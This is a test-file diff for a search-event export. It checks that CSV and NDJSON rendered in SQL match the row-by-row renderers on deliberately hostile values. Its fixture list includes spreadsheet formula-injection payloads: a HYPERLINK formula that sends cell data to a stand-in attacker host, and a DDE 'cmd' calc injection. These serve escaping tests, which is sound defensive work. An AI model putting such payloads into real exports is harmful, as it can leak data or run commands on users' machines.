@@ -6,8 +6,9 @@ import type { Ctx } from '@/server/context';
 import { DomainError } from '@/server/errors';
 import { event, ingest, principal } from '@/server/rollups/test-events';
 import { actor, ctxFor, describeEachEngine, type Harness } from '@/server/testing/db';
-import { EVENT_COLUMNS, searchEvents, type EventRow } from './events';
-import { exportEvents, type ExportInput } from './export';
+import { EVENT_COLUMNS, readEventPage, searchEvents, type EventColumn, type EventRow } from './events';
+import { csvHeader, csvRenderer, exportEvents, ndjsonRenderer, type ExportInput } from './export';
+import { searchScope } from './scope';
 
 const T = Date.UTC(2026, 0, 15, 12);
 const HOUR = 3_600_000;
@@ -203,5 +204,74 @@ describeEachEngine('search export', (h) => {
     expect(e).toMatchObject({ code: 'BAD_REQUEST', column: 17 });
     expect(() => exportEvents(ctx(), { q: '', from: range.to, to: range.from })).toThrow(/start before it ends/);
     expect(await exportsOf(h.db)).toEqual([]);
+  });
+});
+
+// The export renders its lines in SQL (export.ts, "The page as PostgreSQL renders it"): here, the
+// same bytes as the row-by-row renderers, on values chosen to break one or the other.
+const NASTY = [
+  'plain', 'with,comma', 'with "quotes"', '"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\ninside', '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', ' =not a formula', "'already", 'ünïcødé ✓ 日本語 👩‍💻 \u202Eevil \u2028\u2029',
+  'bell\u0007 esc\u001b[31m del\u007f vt\u000b ff\u000c', 'back\\slash \\u0041', 'trailing ', ',', '',
+];
+const FLOATS = [0, -0, 12.5, 0.1 + 0.2, 1e-4, 9.99e-5, 1.5e-5, 1e-6, 1.2345e-7, 1e-7, 5e-324, 123456789012345.6, 1e15, 1e16, 1.2345678901234567e19, 1e21, 1.5e21, 1.7976931348623157e308, -1e-5, -2.5e17, NaN, Infinity, -Infinity];
+const SENSITIVE: unknown[] = [
+  null, [], [{ class: 'email', direction: 'request', count: 1 }], [{ class: 'a,b "c"', direction: '=x', count: 3, path: '$.e' }],
+  [{ class: 'card_number', direction: 'response', count: 2 }, { class: 'email', direction: 'request', count: 1 }, { class: 'card_number', direction: 'response', count: 5 }],
+  [{ class: 'ünï\n', count: 2 }, { class: 'x', direction: 7, count: null }, 'junk', 5, null, { direction: 'request', count: 1 }, { class: 'x', direction: 'unknown' }],
+  { class: 'not a list' }, 42,
+];
+
+async function seedNasty(h: Harness) {
+  const n = Math.max(NASTY.length, FLOATS.length, SENSITIVE.length);
+  await ingest(h.db, [{ principal, events: Array.from({ length: n }, (_, i) => event(T + i * 1000, `n${String(i).padStart(2, '0')}`)) }], T + HOUR);
+  for (let i = 0; i < n; i++) {
+    const s = NASTY[i % NASTY.length];
+    const t = NASTY[(i + 7) % NASTY.length];
+    const f = FLOATS[i % FLOATS.length];
+    await h.db.execute(sql`update access_events set path = ${s}, route = ${t}, user_agent = ${i % 5 === 4 ? null : s}, user_id = ${i % 3 === 0 ? null : t},
+      token_id = ${s}, cluster = ${i % 4 === 0 ? null : ''}, namespace = ${t}, src_service = ${s}, method = ${t}, dst_service = ${s || 'svc'},
+      duration_ms = ${i % 6 === 5 ? null : String(f)}::float8, bytes_in = ${i % 2 ? null : String(Math.trunc(Number.isFinite(f) ? Math.min(Math.abs(f), 9e18) : 7))}::numeric::bigint,
+      bytes_out = ${String(i * 1_000_000_000_007)}::bigint, client_ip = ${i % 3 === 1 ? null : `2001:db8::${i}`}::inet,
+      sensitive = ${JSON.stringify(SENSITIVE[i % SENSITIVE.length])}::jsonb
+      where request_id = ${`n${String(i).padStart(2, '0')}`}`);
+  }
+  return n;
+}
+
+/** What the row-by-row renderers make of the same rows (read in one page, as the result table does). */
+async function rowByRow(h: Harness, format: 'csv' | 'ndjson', columns: readonly EventColumn[]): Promise<string> {
+  const found = await readEventPage(h.db, searchScope({ q: '', ...range }), null, 10_000);
+  return format === 'csv' ? csvHeader(columns) + csvRenderer(columns)(found) : ndjsonRenderer(columns)(found);
+}
+
+describeEachEngine('search export rendered in SQL', (h) => {
+  const ctx = (): Ctx => ctxFor(h.db, actor('analyst', 'usr_exporter'));
+  const subset: EventColumn[] = ['sensitive', 'requestId', 'durationMs', 'ts', 'path', 'status', 'bytesOut'];
+
+  it('writes the bytes the row-by-row renderers write, on hostile text, numbers and sensitive lists', async () => {
+    const n = await seedNasty(h);
+    for (const format of ['csv', 'ndjson'] as const) {
+      for (const columns of [[...EVENT_COLUMNS], subset]) {
+        const expected = await rowByRow(h, format, columns);
+        const { text } = await collect(exportEvents(ctx(), { q: '', ...range, format, columns }, { pageSize: 4 }));
+        expect(text, `${format} ${columns.join(',')}`).toBe(expected);
+        expect(expected.split(format === 'csv' ? '\r\n' : '\n').length).toBeGreaterThan(n);
+      }
+    }
+    expect((await exportsOf(h.db)).map((e) => (e.after as { rows: number }).rows)).toEqual([n, n, n, n]);
+  });
+
+  it('renders in Node, the same, a page whose sensitive list SQL cannot add exactly', async () => {
+    const n = await seedNasty(h);
+    await h.db.execute(sql`update access_events set sensitive = ${JSON.stringify([{ class: 'email', direction: 'request', count: '2' }, { class: 'email', direction: 'request', count: 0.1 }, { class: 'email', direction: 'request', count: 0.2 }, { class: 'x', count: true }])}::jsonb where request_id = 'n03'`);
+    await h.db.execute(sql`update access_events set sensitive = ${JSON.stringify(JSON.stringify([{ class: 'as text', direction: 'request', count: 1 }]))}::jsonb where request_id = 'n09'`);
+    for (const format of ['csv', 'ndjson'] as const) {
+      const expected = await rowByRow(h, format, EVENT_COLUMNS);
+      const { text } = await collect(exportEvents(ctx(), { q: '', ...range, format }, { pageSize: 5 }));
+      expect(text).toBe(expected);
+      expect(text).toContain(format === 'csv' ? 'email:request:2.3000000000000003' : '"count":2.3000000000000003');
+    }
+    expect((await exportsOf(h.db)).map((e) => e.after)).toMatchObject([{ rows: n, complete: true }, { rows: n, complete: true }]);
   });
 });
